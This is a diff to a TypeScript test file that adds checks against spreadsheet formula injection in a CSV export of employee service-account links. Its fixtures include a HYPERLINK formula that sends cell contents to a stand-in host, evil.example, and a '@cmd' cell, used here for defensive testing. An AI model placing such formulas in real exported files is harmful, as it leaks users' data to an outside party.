@@ -6,6 +6,7 @@ import type { LinkRow } from './account-link.js';
 import { exportLinksFromDirectory } from './export-links-from-directory.js';
 import { LinkCsvError } from './link-csv-error.js';
 import { readLinksCsv } from './read-links-csv.js';
+import { validateLinks } from './validate-links.js';
 import { writeLinksCsv } from './write-links-csv.js';
 
 const row = (employeeCode: string, name: string, serviceAccount: string): LinkRow => ({
@@ -130,7 +131,8 @@ describe('write → read round trip (property)', () => {
             )
             .map(([c, a, n]) => row(c, n, a));
           const read = readLinksCsv(writeLinksCsv(rows, options));
-          expect(read.problems).toEqual([]);
+          // Values that start like a formula are warned about (and survive the round trip).
+          expect(read.problems.filter((p) => p.code !== 'spreadsheet-formula')).toEqual([]);
           expect(read.links.map(({ lineNumber: _, ...rest }) => rest)).toEqual(rows);
           let line = 2;
           read.links.forEach((link, i) => {
@@ -141,5 +143,50 @@ describe('write → read round trip (property)', () => {
       ),
       { numRuns: 200 },
     );
+  });
+});
+
+describe('cells a spreadsheet would run as formulas', () => {
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    '+SUM(1+1)',
+    '-2+3',
+    '@cmd',
+    '\t=1+1',
+    '\r=1+1',
+  ];
+
+  test('are written with a leading apostrophe, in every column, and read back unchanged', () => {
+    const rows = hostile.map((value, i) => row(String(i + 1).padStart(4, '0'), value, value));
+    const text = Buffer.from(writeLinksCsv(rows, { encoding: 'utf-8' })).toString('utf8');
+    const cells = text.split(/\r\n/).slice(1, -1);
+    for (const cell of cells) expect(cell).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
+    const { links, problems } = validateLinks(readLinksCsv(writeLinksCsv(rows, { encoding: 'utf-8' })).links);
+    expect(links.map((l) => l.name)).toEqual(hostile.map((v) => v.trim()));
+    expect(links.map((l) => l.serviceAccount)).toEqual(hostile.map((v) => v.normalize('NFKC').trim()));
+    expect(problems.filter((p) => p.code === 'spreadsheet-formula').length).toBeGreaterThanOrEqual(
+      hostile.length,
+    );
+  });
+
+  test('are warned about by the check, naming line and column', () => {
+    const bytes = writeLinksCsv([row('0001', '山田 太郎', '@cmd')], { encoding: 'utf-8' });
+    const { problems } = validateLinks(readLinksCsv(bytes).links);
+    expect(problems).toContainEqual(
+      expect.objectContaining({
+        line: 2,
+        severity: 'warning',
+        code: 'spreadsheet-formula',
+        field: 'サービスアカウント',
+      }),
+    );
+  });
+
+  test('leave ordinary values alone', () => {
+    const text = Buffer.from(
+      writeLinksCsv([row('0001', "O'Brien 太郎", 'taro-1')], { encoding: 'utf-8' }),
+    ).toString('utf8');
+    expect(text).toContain("O'Brien 太郎");
+    expect(text).toContain('"taro-1"');
   });
 });
